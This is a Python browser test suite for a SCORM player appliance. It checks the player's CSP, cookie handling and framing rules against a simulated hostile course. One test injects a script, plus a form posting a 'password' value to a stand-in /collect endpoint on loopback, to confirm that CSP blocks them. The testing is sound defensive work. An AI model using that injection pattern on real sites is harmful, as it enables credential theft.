"""Course content on the player's origin, in headless Chromium against a real server.

A course's JavaScript runs on the same origin as the player and the API docs (the default single-origin
mode, docs/security.md "Course content and the player"). These tests do as a hostile course would from
its frame — set large cookies, inject a script and a form into the player page, frame the API docs —
and check that the player and the API keep working and that the policies refuse the rest; and that an
LMS origin listed in `frame_ancestors` can embed the player while another cannot.

The stand-in LMS is a one-page HTTP server on 127.0.0.1, so no request leaves the machine.
"""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Frame, Page

from tests.e2e.browser import BROWSER_TESTS, WAIT_MS, Appliance, Player
from tests.e2e.conftest import ServerProcess

pytestmark = BROWSER_TESTS

GOLF = "moodle-RuntimeBasicCalls_SCORM20043rdEdition"  # Initialize on load; the player's API_1484_11
LAUNCH_PAGE = "/content/shared/launchpage.html"

# Every frame records the CSP violations reported in it (installed before any of the page's scripts).
RECORD_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (e) => {
  (window.__violations = window.__violations || []).push(`${e.effectiveDirective} ${e.blockedURI}`);
});
"""


def violations(target: Page | Frame) -> list[str]:
    return target.evaluate("() => window.__violations || []")


def running_golf(appliance: Appliance, context: BrowserContext) -> tuple[dict[str, Any], Player, Frame]:
    """A fresh session of the golf SCO, initialised in the player: (session, player, content frame)."""
    session = appliance.new_session(GOLF)
    player = Player(context, session["launch_url"])
    player.wait_running()
    return session, player, player.frame(LAUNCH_PAGE)


# -- cookies set by course JavaScript ----------------------------------------------------------------------------


def test_cookies_a_course_sets_break_neither_the_player_nor_the_api(
    appliance: Appliance, context: BrowserContext
) -> None:
    session, player, content = running_golf(appliance, context)
    # The course sets 30 cookies of 4 KB for its origin: ~120 KB on every later request of this browser.
    sent = content.evaluate(
        """() => {
          for (let i = 0; i < 30; i++) document.cookie = `course${i}=${"x".repeat(4000)}; path=/`;
          return document.cookie.length;
        }"""
    )
    assert sent > 120_000
    assert len(context.cookies()) == 30

    # A commit from the running SCO (the commit endpoint) ...
    assert content.evaluate("() => window.parent.API_1484_11.SetValue('cmi.location', 'after-cookies')") == "true"
    assert content.evaluate("() => window.parent.API_1484_11.Commit('')") == "true"
    player.wait_settled()
    assert set(player.commit_statuses) == {200}
    assert appliance.session(session["id"])["cmi"]["cmi.location"] == "after-cookies"
    player.close()

    # ... and a new page: the player page, /static, the launch, the content files all answer.
    requests: list[Any] = []
    context.on("request", lambda request: requests.append(request))
    again = Player(context, appliance.launch_url(session["id"]))
    again.wait_running()
    by_kind = {
        "page": next(r for r in requests if "/player/" in r.url and r.resource_type == "document"),
        "module": next(r for r in requests if r.url.endswith("/static/runtime/player.js")),
        "launch": next(r for r in requests if r.url.endswith("/launch")),
        "content": next(r for r in requests if r.url.endswith(LAUNCH_PAGE)),
    }
    assert len(by_kind["page"].header_value("cookie") or "") > 120_000  # the browser did send them
    statuses = {kind: r.response().status for kind, r in by_kind.items()}  # type: ignore[union-attr]
    assert statuses == dict.fromkeys(by_kind, 200)

    # The API from the same browser (the cookies go along): answered, not 413.
    answers = again.page.evaluate(
        """async (key) => {
          const auth = {headers: {Authorization: `Bearer ${key}`}};
          return [
            (await fetch("/api/v1/sessions", auth)).status,
            (await fetch("/api/v1/docs")).status,
            (await fetch("/api/v1/openapi.json")).status,
          ];
        }""",
        appliance.key,
    )
    assert answers == [200, 200, 200]


# -- the player page's CSP -------------------------------------------------------------------------------------


def test_the_player_works_under_its_csp_and_refuses_what_content_injects_into_it(
    appliance: Appliance, context: BrowserContext
) -> None:
    context.add_init_script(RECORD_VIOLATIONS)
    session, player, content = running_golf(appliance, context)
    assert content.evaluate("() => window.parent.API_1484_11.SetValue('cmi.location', 'csp')") == "true"
    assert content.evaluate("() => window.parent.API_1484_11.Commit('')") == "true"
    player.wait_settled()
    assert appliance.session(session["id"])["cmi"]["cmi.location"] == "csp"
    assert violations(player.page) == []  # its modules, stylesheet, fetches and the content frame are admitted
    assert violations(content) == []  # the content has no CSP of ours (its own inline scripts run)
    assert content.evaluate("() => { eval('window.__evaluated = 1'); return window.__evaluated; }") == 1

    # Course code writes a script and a form into the player's document: neither runs nor submits.
    content.evaluate(
        """() => {
          const doc = window.parent.document;
          const script = doc.createElement("script");
          script.textContent = "window.__injected = true;";
          doc.body.append(script);
          const form = doc.createElement("form");
          form.method = "post";
          form.action = "http://127.0.0.1:9/collect";
          form.innerHTML = '<input name="password" value="hunter2">';
          doc.body.append(form);
          form.submit();
        }"""
    )
    player.page.wait_for_function("() => (window.__violations || []).length >= 2", timeout=WAIT_MS)
    assert player.page.evaluate("() => window.__injected === undefined")
    assert sorted(v.split(" ")[0] for v in violations(player.page)) == ["form-action", "script-src-elem"]
    # Still the player page (the submission's beforeunload may have let the content terminate).
    assert player.page.url.endswith(session["launch_url"].split("/player/", 1)[1])
    assert player.page.evaluate("() => window.scormPlayer !== undefined")


# -- the API docs ---------------------------------------------------------------------------------------------


def test_swagger_ui_renders_under_its_csp(appliance: Appliance, context: BrowserContext) -> None:
    # The vendored Swagger UI 5 renders the OpenAPI 3.1 schema Litestar writes: every operation, their
    # parameters and responses, "Try it out", all under the page's CSP and from this origin only.
    with appliance.server.client() as http:
        schema = http.get("/api/v1/openapi.json").json()
    assert schema["openapi"].startswith("3.1")
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    page.set_default_timeout(WAIT_MS)
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" and "favicon" not in m.text else None)
    foreign: list[str] = []
    page.on("request", lambda r: None if r.url.startswith(appliance.server.url) else foreign.append(r.url))
    page.goto(f"{appliance.server.url}/api/v1/docs")
    page.wait_for_selector(".swagger-ui .info .title")
    assert "scorm-appliance" in page.locator(".swagger-ui .info .title").inner_text()
    assert "Unable to render this definition" not in page.content()
    assert page.locator(".opblock").count() == sum(len(methods) for methods in schema["paths"].values())
    page.locator(".opblock-summary").first.click()  # expanding one renders its parameters and responses
    page.wait_for_selector(".opblock-body .responses-wrapper")
    page.locator(".opblock-body .try-out__btn").first.click()
    page.locator(".opblock-body .execute").first.click()  # "Try it out": a fetch to this origin
    page.wait_for_selector(".opblock-body .live-responses-table")
    assert violations(page) == []
    assert [e for e in errors if "Failed to load resource" not in e] == []
    assert foreign == []
    page.close()


def test_course_content_cannot_frame_the_api_docs(appliance: Appliance, context: BrowserContext) -> None:
    _, player, content = running_golf(appliance, context)
    base = appliance.server.url
    content.evaluate(
        """(sources) => Promise.all(sources.map((src) => new Promise((resolve) => {
          const frame = document.createElement("iframe");
          frame.src = src;
          frame.onload = () => resolve(true);
          document.body.append(frame);
        })))""",
        [f"{base}/api/v1/docs", f"{base}/api/v1/openapi.json", f"{base}/static/player.css", f"{base}/api/v1/health"],
    )
    loaded = [f.url for f in player.page.frames if f.url.startswith(f"{base}/api/") or "/static/" in f.url]
    assert loaded == [f"{base}/api/v1/health"]  # the control: a response without the headers is framed


# -- frame_ancestors: an LMS that embeds the player ------------------------------------------------------------


class _EmptyPage(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        body = b"<!DOCTYPE html><title>LMS</title><body></body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def lms_port() -> Iterator[int]:
    """A stand-in LMS on 127.0.0.1: one empty page, reachable as two origins (127.0.0.1 and localhost).

    A loopback server rather than intercepted requests: Chromium refuses a frame on 127.0.0.1 inside a
    page whose origin is not itself on the local network.
    """
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _EmptyPage)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield httpd.server_address[1]
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(5)


def embed(context: BrowserContext, lms_url: str, src: str) -> Page:
    """A page of the LMS at `lms_url` that frames `src` (the frame's load, or its refusal, awaited)."""
    page = context.new_page()
    page.set_default_timeout(WAIT_MS)
    page.goto(lms_url)
    page.evaluate(
        """(src) => new Promise((resolve) => {
          const frame = document.createElement("iframe");
          frame.src = src;
          frame.style.width = "1000px";
          frame.style.height = "700px";
          frame.onload = () => resolve(true);
          document.body.append(frame);
        })""",
        src,
    )
    return page


def test_an_lms_origin_listed_in_frame_ancestors_embeds_the_player(
    start_server: Callable[..., ServerProcess], corpus: Path, context: BrowserContext, lms_port: int
) -> None:
    lms = f"http://127.0.0.1:{lms_port}"
    server = start_server(env={"SCORM_APPLIANCE_FRAME_ANCESTORS": f"'self' {lms}"})
    appliance = Appliance(server, corpus)
    try:
        session = appliance.new_session(GOLF)
        page = embed(context, f"{lms}/course", session["launch_url"])
        player_frame = next(f for f in page.frames if "/player/" in f.url and "/content/" not in f.url)
        player_frame.wait_for_function(
            "() => window.scormPlayer && window.scormPlayer.current && window.scormPlayer.current.runtime.state"
            " === 'running'"
        )
        content = next(f for f in page.frames if LAUNCH_PAGE in f.url)  # framed by the player, inside the LMS
        assert content.evaluate("() => window.parent.API_1484_11.SetValue('cmi.location', '3')") == "true"
        assert content.evaluate("() => window.parent.API_1484_11.Commit('')") == "true"
        appliance.wait_session(session["id"], lambda s: s["cmi"].get("cmi.location") == "3", what="the commit")
        page.close()

        # The same LMS page under another name is another origin, not listed: no player.
        page = embed(context, f"http://localhost:{lms_port}/course", appliance.launch_url(session["id"]))
        assert not [f for f in page.frames if "/player/" in f.url], [f.url for f in page.frames]
        page.evaluate(  # the control: a response without framing headers loads in that page
            """(src) => new Promise((resolve) => {
              const frame = document.createElement("iframe");
              frame.src = src;
              frame.onload = () => resolve(true);
              document.body.append(frame);
            })""",
            f"{server.url}/api/v1/health",
        )
        assert f"{server.url}/api/v1/health" in [f.url for f in page.frames]
        page.close()
    finally:
        appliance.close()
